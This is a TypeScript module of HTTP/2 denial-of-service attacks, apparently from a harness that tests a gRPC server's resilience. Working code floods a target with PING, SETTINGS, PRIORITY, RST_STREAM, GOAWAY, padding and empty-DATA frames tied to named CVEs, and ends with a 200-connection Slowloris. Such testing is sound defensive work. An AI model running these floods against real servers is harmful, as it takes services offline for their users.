/** Floods of HTTP/2 frames that carry no request: each is allowed, and none is needed in numbers. */
import type { Attack, AttackGroup, Target } from "../attack.ts";
import {
  ACK,
  callBlock,
  data,
  frame,
  FrameType,
  goaway,
  headers,
  join,
  PADDED,
  ping,
  repeat,
  rstStream,
  Setting,
  settings,
  SETTINGS_ACK,
  uint32,
  windowUpdate,
} from "../frames.ts";
import { envelope, GREETER, HASH, lengthDelimited } from "../messages.ts";
import { type Http2Options, Http2Wire, waitForEnd } from "../sockets.ts";

/** What is written at once, in bytes: enough that the server has a full read each time. */
const BURST_BYTES = 64 * 1024;

/** Sends one thing again and again on one connection, and says how the server ended it. */
async function flood(target: Target, part: Uint8Array, options?: Http2Options, before?: Uint8Array) {
  const http2 = await Http2Wire.connect(target, options);
  if (before !== undefined) {
    await http2.wire.send(before);
  }
  const count = Math.max(1, Math.floor(BURST_BYTES / part.length));
  const bursts = await http2.wire.flood(target, repeat(part, count));
  return { notes: [`${bursts * count} frames; ${http2.goaway || "no GOAWAY"}`] };
}

/** Sends it on one connection after the other: an attacker whose connection is closed comes back. */
async function floodAgain(target: Target, part: Uint8Array, options?: Http2Options, before?: Uint8Array) {
  const notes: string[] = [];
  let connections = 0;
  while (performance.now() < target.endMs && connections < 100) {
    const outcome = await flood(target, part, options, before).catch(() => undefined);
    connections++;
    outcome && notes.push(...outcome.notes);
  }
  return { notes: [`${connections} connections; ${notes[0]}`] };
}

const OPEN_STREAM = headers(1, callBlock(`${HASH}/ShaStream`));

/** An upload that begins, and DATA frames on it that say nothing. */
const floodStream = (part: Uint8Array) => (target: Target) => floodAgain(target, part, {}, OPEN_STREAM);

export const http2Control: AttackGroup = {
  name: "http2-control",
  attacks: [
    {
      name: "ping-flood",
      title: "PINGs whose responses are not read (CVE-2019-9512)",
      run: (target) => floodAgain(target, ping(), { reads: false }),
    },
    {
      name: "ping-flood-read",
      title: "PINGs whose responses are read",
      run: (target) => floodAgain(target, ping()),
    },
    {
      name: "ping-ack-flood",
      title: "ACKs of PINGs that were not sent: an honest call beside them waits 260-490 ms (B.11)",
      run: (target) => floodAgain(target, ping(ACK)),
    },
    {
      name: "settings-flood",
      title: "SETTINGS whose ACKs are not read (CVE-2019-9515)",
      run: (target) => floodAgain(target, settings(), { reads: false }),
    },
    {
      name: "settings-ack-flood",
      title: "ACKs of SETTINGS that were not sent",
      run: (target) => floodAgain(target, SETTINGS_ACK),
    },
    {
      name: "settings-entries",
      title: "SETTINGS frames of 2,400 entries (CVE-2020-11080)",
      run: (target) =>
        floodAgain(
          target,
          settings(...Array.from({ length: 2400 }, (_, index) => [Setting.headerTableSize, index] as const)),
        ),
    },
    {
      name: "settings-window-toggle",
      title: "SETTINGS that change the window of 100 streams up and down: each changes all of them",
      run: (target) => {
        const streams = Array.from(
          { length: 100 },
          (_, index) => headers(2 * index + 1, callBlock(`${HASH}/ShaStream`)),
        );
        const toggle = join(
          settings([Setting.initialWindowSize, 0]),
          settings([Setting.initialWindowSize, 0x7fff_ffff]),
        );
        return floodAgain(target, toggle, {}, join(...streams));
      },
    },
    {
      name: "header-table-toggle",
      title: "SETTINGS that change the size of the encoder's table, between calls",
      run: async (target) => {
        const http2 = await Http2Wire.connect(target);
        let size = 0;
        await http2.wire.flood(target, () => {
          const id = http2.takeStreamId();
          return join(
            settings([Setting.headerTableSize, size = 4096 - size]),
            headers(id, callBlock(`${GREETER}/SayHello`)),
            data(id, envelope(lengthDelimited(1, "x")), true),
          );
        });
        return { notes: [http2.goaway || "no GOAWAY"] };
      },
    },
    {
      name: "priority-flood",
      title: "PRIORITY frames for streams that are not there (CVE-2019-9513)",
      run: (target) => floodAgain(target, frame(FrameType.priority, 0, 1, join(uint32(0), new Uint8Array([16])))),
    },
    {
      name: "priority-update-flood",
      title: "PRIORITY_UPDATE and other frames of types that the server need not know",
      run: (target) =>
        floodAgain(target, join(frame(0x10, 0, 0, new Uint8Array(16)), frame(0xee, 0xff, 1, new Uint8Array(8)))),
    },
    {
      name: "window-update-flood",
      title: "WINDOW_UPDATEs of the connection of 1 byte each",
      run: (target) => floodAgain(target, windowUpdate(0, 1), { takesResponses: false }),
    },
    {
      name: "window-update-closed-flood",
      title: "WINDOW_UPDATEs of a stream that is closed, which are ignored (B.11)",
      run: (target) => floodAgain(target, windowUpdate(1, 1), {}, join(OPEN_STREAM, rstStream(1))),
    },
    {
      name: "rst-closed-flood",
      title: "RST_STREAMs of a stream that is closed, which are ignored (B.11)",
      run: (target) => floodAgain(target, rstStream(1), {}, join(OPEN_STREAM, rstStream(1))),
    },
    {
      name: "goaway-flood",
      title: "GOAWAY frames after the first (B.11)",
      run: (target) => floodAgain(target, goaway(0, 0), {}, OPEN_STREAM),
    },
    {
      name: "empty-data-flood",
      title: "DATA frames of no bytes (CVE-2019-9518)",
      run: floodStream(data(1, new Uint8Array(0))),
    },
    {
      name: "padding-flood",
      title: "DATA frames of padding only (CVE-2019-9518)",
      run: floodStream(frame(FrameType.data, PADDED, 1, new Uint8Array(256).fill(255, 0, 1))),
    },
    {
      name: "data-closed-flood",
      title: "DATA for a stream that was reset, which is ignored but counts in the window",
      run: (target) => floodAgain(target, data(1, new Uint8Array(1)), {}, join(OPEN_STREAM, rstStream(1))),
    },
    {
      name: "frame-too-long",
      title: "Frames that announce 16 MiB, and connections that begin again",
      run: (target) => floodAgain(target, frame(FrameType.data, 0, 1, new Uint8Array(100), 0xff_ffff), {}, OPEN_STREAM),
    },
    {
      name: "slow-frame",
      title: "200 connections with half a frame (Slowloris)",
      run: async (target) => {
        for (let count = 0; count < 200; count++) {
          const http2 = await Http2Wire.connect(target);
          await http2.wire.send(headers(1, callBlock(`${GREETER}/SayHello`)).subarray(0, 20));
        }
        await waitForEnd(target);
      },
    },
  ] satisfies readonly Attack[],
};
